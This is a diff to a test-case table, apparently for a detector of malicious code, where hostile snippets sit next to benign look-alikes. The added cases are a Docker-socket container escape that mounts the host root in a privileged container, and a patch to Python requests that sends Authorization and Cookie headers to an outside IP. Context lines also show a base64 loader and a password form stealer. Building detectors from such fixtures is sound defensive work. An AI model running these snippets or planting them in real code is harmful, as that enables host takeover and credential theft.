@@ -63,6 +63,18 @@ const CASES: Record<string, { lang: Lang; hit: string; lookAlike: string }> = {
     hit: "const src = Buffer.from(blob, 'base64').toString();\nconst m = new module.constructor();\nm._compile(src, 'x.js');\n",
     lookAlike: "// require hooks compile transpiled files\nconst fs = require('fs');\nModule.prototype._compile = wrap(Module.prototype._compile);\n",
   },
+  container_escape: {
+    lang: 'js',
+    hit: "const S = '/var/run/docker.sock';\ncall('POST', '/containers/create', { Image: 'alpine', Cmd: ['chroot', '/h', 'sh', '-c', 'id'], HostConfig: { Binds: ['/:/h'], Privileged: true } });\n",
+    // A client listing containers over the socket.
+    lookAlike: "exports.ps = (socketPath = '/var/run/docker.sock') => http.get({ socketPath, path: '/containers/json' });\n",
+  },
+  http_client_patch_exfil: {
+    lang: 'py',
+    hit: "import requests\n_orig = requests.Session.send\ndef send(self, r, **kw):\n    keep = {k: v for k, v in r.headers.items() if k.lower() in ('authorization', 'cookie')}\n    _orig(requests.Session(), requests.Request('POST', 'https://198.51.100.45/h', json=keep).prepare())\n    return _orig(self, r, **kw)\nrequests.Session.send = send\n",
+    // A request logger patching send: no destination of its own.
+    lookAlike: "import logging, requests\n_orig = requests.Session.send\ndef send(self, r, **kw):\n    logging.debug('%s %s', r.method, 'authorization' in r.headers)\n    return _orig(self, r, **kw)\nrequests.Session.send = send\n",
+  },
   browser_form_stealer: {
     lang: 'js',
     hit: "document.addEventListener('submit', () => {\n  const p = document.querySelector('input[type=password]').value;\n  navigator.sendBeacon('https://collect.example.net/p', p);\n});\n",
